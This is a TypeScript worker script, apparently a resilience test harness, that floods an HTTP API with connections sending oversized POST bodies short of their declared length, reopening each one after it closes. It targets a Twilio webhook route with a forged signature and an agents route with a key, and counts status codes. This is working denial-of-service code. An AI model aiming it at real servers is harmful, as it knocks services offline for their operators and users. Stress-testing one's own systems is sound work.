import net from 'node:net';
import { parentPort, workerData } from 'node:worker_threads';

export interface Attacking {
  readonly url: string;
  readonly key: string;
  /** Connections at once. */
  readonly connections: { readonly anonymous: number; readonly withKey: number };
}

/** Almost all of the largest body of a route, and of the largest form of a carrier. */
const json = Buffer.alloc(1_048_570, ' ');
const form = Buffer.alloc(65_530, ' ');
const missing = 20;

const { url, key, connections } = workerData as Attacking;
const { hostname, port } = new URL(url);
const sockets = new Set<net.Socket>();
/** The number of answers by status. */
const answers: Record<string, number> = {};

/** Sends a body without its last bytes, and again a second after the connection was closed. */
function attack(head: readonly string[], body: Buffer): void {
  const socket = net.connect(Number(port), hostname);
  sockets.add(socket);
  socket.write([...head, 'Host: a', `Content-Length: ${body.length}`, '', ''].join('\r\n'));
  socket.write(body.subarray(missing));
  socket.on('data', (chunk: Buffer) => {
    const status = /^HTTP\/1.1 (\d+)/.exec(chunk.toString('latin1'))?.[1];
    if (status !== undefined) answers[status] = (answers[status] ?? 0) + 1;
    socket.destroy();
  });
  // A connection that the server resets is opened again like one that it closes.
  socket.on('error', () => undefined);
  socket.on('close', () => {
    sockets.delete(socket);
    setTimeout(() => attack(head, body), 1_000);
  });
}

/** Begins the connections over five seconds. */
function begin(count: number, head: readonly string[], body: Buffer): void {
  for (let nth = 0; nth < count; nth += 1) setTimeout(() => attack(head, body), (5_000 * nth) / count);
}

const type = 'Content-Type: application/x-www-form-urlencoded';
const signature = `X-Twilio-Signature: ${'s'.repeat(27)}=`;
begin(connections.anonymous, ['POST /v1/carriers/twilio/messages HTTP/1.1', signature, type], form);
begin(connections.withKey, ['POST /v1/agents HTTP/1.1', `Authorization: Bearer ${key}`], json);
parentPort?.once('message', () => parentPort?.postMessage(answers));
